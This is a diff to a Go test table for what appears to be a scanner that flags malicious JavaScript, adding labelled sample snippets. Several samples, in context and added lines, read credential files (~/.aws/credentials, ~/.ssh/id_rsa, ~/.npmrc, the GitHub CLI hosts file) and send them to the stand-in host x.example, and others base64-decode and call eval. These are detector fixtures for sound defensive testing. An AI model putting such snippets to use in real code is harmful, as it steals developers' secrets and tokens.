@@ -101,6 +101,10 @@ func TestJS(t *testing.T) {
 		{"import { createReadStream } from 'node:fs';\nimport { request } from 'node:https';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { pipeline } from 'node:stream/promises';\nconst req = request(u, { method: 'PUT' });\nawait pipeline(createReadStream(join(homedir(), '.aws', 'credentials')), req);\n", "secret-send"},
 		{"const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')).pipe(req);\n", "secret-send"},
 		{"const fs = require('fs'), https = require('https');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream('dist/app.zip').pipe(req);\n", ""},
+		// A list of credential files read each by a callback and sent; a
+		// list of the project's files read so is nothing.
+		{"import { readFileSync, existsSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst rc = join(homedir(), '.npmrc');\nconst gh = join(homedir(), '.config/gh/hosts.yml');\nconst blob = [rc, gh].filter(existsSync).map((p) => readFileSync(p, 'utf8')).join('\\n');\nawait fetch('https://x.example/w', { method: 'POST', body: blob });\n", "secret-send"},
+		{"import { readFileSync } from 'node:fs';\nconst blob = ['a.json', 'b.json'].map((p) => readFileSync(p, 'utf8')).join('\\n');\nawait fetch('https://x.example/w', { method: 'POST', body: blob });\n", ""},
 		// A parenthesised name called: (globalThis as any)[k](...), (0, eval)(...).
 		{"const k = Buffer.from(['ZXZ', 'hbA', '=='].join(''), 'base64').toString();\n(globalThis as any)[k](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec,obfuscated"},
 		{"(0, eval)(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec"},
